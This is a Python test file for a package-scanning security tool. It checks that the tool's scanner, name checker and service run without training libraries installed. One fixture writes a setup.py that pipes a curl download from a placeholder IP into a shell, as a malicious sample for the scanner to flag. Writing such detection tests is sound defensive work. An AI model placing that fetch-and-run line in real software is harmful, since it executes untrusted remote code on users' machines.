"""The runtime (detector, CLI, service) works with the training, backfill and plotting
libraries absent: a fresh interpreter that refuses to import them scans a package,
checks names and serves a ready service."""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

HEAVY = ("sklearn", "scipy", "joblib", "dask", "distributed", "pandas", "pyarrow",
         "matplotlib")

PRELUDE = f"""
import importlib.abc, sys
HEAVY = {HEAVY!r}

class Refuse(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in HEAVY:
            raise ImportError(f"{{name}} is not part of the runtime install")
        return None

sys.meta_path.insert(0, Refuse())
"""


def _run(body: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    code = PRELUDE + textwrap.dedent(body) + (
        "\nloaded = sorted({m.split('.')[0] for m in sys.modules} & set(HEAVY))"
        "\nassert not loaded, loaded\nprint('ok')\n")
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          cwd=tmp_path, timeout=300, check=False,
                          env={"PATH": "/usr/bin:/bin", "WARDEN_CACHE_DIR": "",
                               "HOME": str(tmp_path)})


def test_scan_and_name_check_need_no_training_libraries(tmp_path):
    sdist = tmp_path / "tiny"
    sdist.mkdir()
    (sdist / "setup.py").write_text("import os\nos.system('curl http://203.0.113.9/x | sh')\n")
    proc = _run(f"""
        import json, io, contextlib
        from warden.cli import app
        out = io.StringIO()
        for args in (["scan", {str(sdist)!r}, "--json"], ["check-name", "reqeusts", "--json"]):
            with contextlib.redirect_stdout(out):
                try:
                    app(args)
                except SystemExit as exit:
                    assert exit.code in (0, None, 1), (args, exit.code)
        lines = [json.loads(line) for line in out.getvalue().splitlines()]
        assert lines[0]["flagged"] and lines[0]["findings"], lines[0]
        from detector.code.model import shipped_model
        assert shipped_model() is not None
        assert len(lines) == 2, lines
    """, tmp_path)
    assert proc.returncode == 0 and proc.stdout.strip().endswith("ok"), proc.stderr[-3000:]


def test_service_starts_without_training_libraries(tmp_path):
    proc = _run(f"""
        from fastapi.testclient import TestClient
        from service.app import create_app
        from service.config import Settings
        app = create_app(Settings.load("sqlite:///{tmp_path}/w.db"))
        with TestClient(app) as client:
            import time
            for _ in range(600):
                if client.get("/readyz").status_code == 200:
                    break
                time.sleep(0.1)
            assert client.get("/readyz").status_code == 200
            assert client.get("/metrics").status_code == 200
    """, tmp_path)
    assert proc.returncode == 0 and proc.stdout.strip().endswith("ok"), proc.stderr[-3000:]


def test_training_names_its_extra_when_missing(tmp_path):
    proc = _run("""
        from warden.cli import app
        import io, contextlib
        err = io.StringIO()
        with contextlib.redirect_stderr(err):
            try:
                app(["train", "--out", "m"])
            except SystemExit as exit:
                assert exit.code == 2, exit.code
        assert "[train] extra" in err.getvalue(), err.getvalue()
    """, tmp_path)
    assert proc.returncode == 0 and proc.stdout.strip().endswith("ok"), proc.stderr[-3000:]
